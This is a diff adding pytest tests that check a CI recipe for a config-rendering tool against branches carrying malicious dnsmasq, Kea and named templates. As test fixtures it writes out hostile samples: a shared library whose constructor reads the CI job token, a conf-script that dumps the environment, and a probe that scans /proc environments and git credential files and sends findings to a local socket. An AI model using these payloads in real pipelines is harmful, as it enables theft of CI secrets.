@@ -470,3 +470,175 @@ def test_3_a_top_level_domain_is_always_an_error(site):
                for e in errors), errors
     r = site.run("render")
     assert r.code == 1, r
+
+
+# --- 1, 2 in CI: the shipped recipe hands the checkers nothing to run, and no secret ----------
+
+RECIPE = REPO / "examples" / "ci" / "cinv-ci.sh"
+CI_VARS = ("CI_COMMIT_REF_SLUG", "GITHUB_REF_NAME", "GITHUB_OUTPUT", "CINV_INVENTORY",
+           "CINV_OUT", "CINV_BRANCH", "CINV_INSTALL", "CINV_PIP_SPEC", "CINV_VENV",
+           "CINV_ALLOW_MISSING_CHECKERS", "CINV_DIFF_BASE", "CI_MERGE_REQUEST_TARGET_BRANCH_NAME",
+           "GITHUB_BASE_REF", "CI_DEFAULT_BRANCH", "GITHUB_STEP_SUMMARY",
+           "CINV_CHECKER_SANDBOX")
+LIBRARY = r"""
+#include <stdio.h>
+#include <stdlib.h>
+__attribute__((constructor)) static void own(void) {
+    const char *token = getenv("CI_JOB_TOKEN");
+    FILE *f = fopen("%MARKER%", "w");
+    if (f) { fprintf(f, "loaded, token=%s\n", token ? token : "(none)"); fclose(f); }
+}
+"""
+
+
+def recipe(site: Site, out: Path, bin_dir: Path | None = None, **env):
+    """The recipe as CI runs it on a merge request, with the job's token in its environment."""
+    full = {k: v for k, v in os.environ.items() if k not in CI_VARS}
+    cinv = Path(shutil.which("cinv", path=str(Path(sys.executable).parent)) or "cinv").parent
+    full["PATH"] = os.pathsep.join([str(p) for p in (bin_dir, cinv) if p] + [full["PATH"]])
+    full.update({"CINV_OUT": str(out), "CINV_INSTALL": "never", "CI_JOB_TOKEN": SECRET,
+                 "HOME": str(site.tmp / "home"), **env})
+    (site.tmp / "home").mkdir(exist_ok=True)
+    (site.tmp / "home" / ".git-credentials").write_text(f"https://ci:{SECRET}@git.example\n")
+    return subprocess.run(["bash", str(RECIPE)], cwd=site.root, env=full, capture_output=True,
+                          text=True, timeout=600)
+
+
+def build_library(site: Site, marker: Path) -> bytes:
+    source = site.tmp / "lib.c"
+    source.write_text(LIBRARY.replace("%MARKER%", str(marker)))
+    target = site.tmp / "libcustomer.so"
+    subprocess.run([require("gcc"), "-shared", "-fPIC", "-o", str(target), str(source)],
+                   check=True)
+    return target.read_bytes()
+
+
+def test_1_2_the_ci_recipe_runs_no_program_and_loads_no_library_of_a_branch(site):
+    """The attack of the issue, end to end: a branch commits a dnsmasq template with a
+    conf-script that writes the job's environment out, and a Kea template loading a .so it
+    commits too; CI runs the shipped recipe on it with a token in its environment."""
+    leak, marker = site.victim / "leak", site.victim / "loaded"
+    dnsmasq = (BUILTIN / "dnsmasq.conf.j2").read_text() + \
+        f'conf-script=/bin/sh -c "env > {leak}"\n'
+    kea = ('{% set kea = inv.kea4 %}{"Dhcp4": {"hooks-libraries": [{"library": '
+           '"./libcustomer.so"}], "subnet4": {{ kea.Dhcp4.subnet4 | to_json }}}}\n')
+    site.branch({"templates/dnsmasq.conf.j2": dnsmasq, "templates/kea-dhcp4.conf.j2": kea,
+                 "libcustomer.so": build_library(site, marker).decode("latin-1")})
+    r = recipe(site, site.tmp / "published", CI_MERGE_REQUEST_TARGET_BRANCH_NAME="main")
+    assert r.returncode == 1, r.stdout + r.stderr
+    assert r.stderr.strip().splitlines()[-1] == \
+        "cinv-ci: FAILED: cinv check found problems in the inventory (listed above)"
+    at = len((BUILTIN / "dnsmasq.conf.j2").read_text().splitlines()) + 1
+    assert f"templates/dnsmasq.conf.j2:{at}: dnsmasq/cinv.conf:" in r.stdout, r.stdout
+    assert "conf-script" in r.stdout and "templates/kea-dhcp4.conf.j2:1: kea-dhcp4.conf:1: " \
+        "Kea's 'hooks-libraries'" in r.stdout, r.stdout
+    assert not leak.exists() and not marker.exists()  # nothing of the branch ran or loaded
+    assert SECRET not in r.stdout + r.stderr
+    site.assert_victim_untouched()
+    published = site.tmp / "published"
+    assert not any(p.is_file() for p in published.rglob("*")), list(published.rglob("*"))
+
+
+FAKE_CINV = """#!/bin/bash
+# cinv as it is, but for `render`: the files a checker might still be surprised by, as if
+# cinv's rules had let them through
+if [[ " $* " == *" render "* ]]; then
+  while [ $# -gt 0 ]; do [ "$1" = --out ] && out=$2; shift; done
+  cp -r "%FILES%"/. "$out"/
+  exit 0
+fi
+exec "%CINV%" "$@"
+"""
+PROBE = """import glob, os, socket, sys
+secret, found = %SECRET%, []
+for name in glob.glob("/proc/*/environ") + [%FILES%]:
+    try:
+        if secret.encode() in open(name, "rb").read():
+            found.append(name)
+    except OSError:
+        pass
+if secret in repr(dict(os.environ)):
+    found.append("own environment")
+for name in (%VICTIM% + "/leak", %INV% + "/leak"):
+    try:
+        open(name, "w").write(repr(found))
+    except OSError:
+        pass
+try:
+    socket.create_connection(("127.0.0.1", %PORT%), timeout=2).sendall(repr(found).encode())
+except OSError:
+    pass
+print("domain=example.com")
+"""
+
+
+@pytest.mark.parametrize("sandbox", ["bwrap", "none"])
+def test_1_2_a_checker_the_rules_miss_holds_no_secret_in_the_recipe(site, sandbox):
+    """Beyond cinv's rules: were a file with a conf-script, a hooks library and an include
+    of a secret file to reach the checkers anyway (a fake `cinv render` writes them), the
+    recipe's sandbox leaves them no token, no credentials, no network and nowhere to write.
+    The run without the sandbox (CINV_CHECKER_SANDBOX=none: an empty environment only) shows
+    the probe working: it finds the token in the job's processes and writes it out."""
+    import socket
+    site.branch()
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(5)
+    listener.settimeout(0.5)
+    marker = site.victim / "loaded"
+    files = site.tmp / "hostile"
+    (files / "dnsmasq").mkdir(parents=True)
+    (files / "dns").mkdir()
+    build_library(site, marker)
+    shutil.copy(site.tmp / "libcustomer.so", site.root / "libcustomer.so")  # on the branch
+    probe = PROBE.replace("%SECRET%", repr(SECRET)).replace("%PORT%", str(
+        listener.getsockname()[1])).replace("%VICTIM%", repr(str(site.victim))).replace(
+        "%INV%", repr(str(site.root))).replace("%FILES%", ", ".join(repr(str(p)) for p in (
+            site.root / ".git" / "config", site.tmp / "home" / ".git-credentials")))
+    (files / "probe.py").write_text(probe)
+    out = site.tmp / "published" / "mr"
+    (files / "dnsmasq" / "cinv.conf").write_text(
+        f"conf-script=/usr/bin/python3 {out}/probe.py\n")
+    (files / "kea-dhcp4.conf").write_text(json.dumps({"Dhcp4": {"hooks-libraries": [
+        {"library": str(site.root / "libcustomer.so")}]}}))
+    (files / "dns" / "named.conf.zones").write_text(
+        f'include "{site.victim}/secret.txt";\n'
+        'zone "example.com" {\n\ttype primary;\n\tfile "db.example.com";\n};\n')
+    (files / "dns" / "db.example.com").write_text(
+        "$TTL 60\n@ IN SOA ns1.example.net. h.example.com. 1 60 60 60 60\n"
+        "@ IN NS ns1.example.net.\n")
+    bin_dir = site.tmp / "bin"
+    bin_dir.mkdir()
+    fake = bin_dir / "cinv"
+    fake.write_text(FAKE_CINV.replace("%FILES%", str(files)).replace(
+        "%CINV%", shutil.which("cinv", path=str(Path(sys.executable).parent))))
+    fake.chmod(0o755)
+    # the job's checkout holds its credentials, as actions/checkout leaves them
+    site.inv.git("config", "http.https://git.example/.extraheader",
+                 f"AUTHORIZATION: basic {SECRET}")
+    r = recipe(site, site.tmp / "published", bin_dir, CINV_CHECKER_SANDBOX=sandbox,
+               CINV_ALLOW_MISSING_CHECKERS="1")
+    log = r.stdout + r.stderr
+    assert r.returncode == 1 and "refused: kea-dhcp4 -t" in log, log
+    connections = []
+    try:
+        while True:
+            conn, _addr = listener.accept()
+            connections.append(conn.recv(4096))
+    except OSError:
+        pass
+    listener.close()
+    if sandbox == "none":  # the probe works: without namespaces it finds the token in the
+        # job's processes, its checkout and $HOME, and writes outside; Kea loads the library;
+        # named's include puts the secret file into the log
+        found = (site.victim / "leak").read_text()
+        assert ".git/config" in found and ".git-credentials" in found and "/proc/" in found
+        assert connections and marker.exists() and SECRET in log, log
+        return
+    assert "checkers run in bubblewrap" in r.stdout
+    assert "ok: dnsmasq --test" in log  # it ran the probe to its end (which found nothing)
+    assert not marker.exists(), marker.read_text()  # the branch's library never loaded
+    assert not (site.root / "leak").exists()
+    assert connections == []  # no network
+    assert SECRET not in log  # named's include of the secret file read nothing
+    site.assert_victim_untouched()
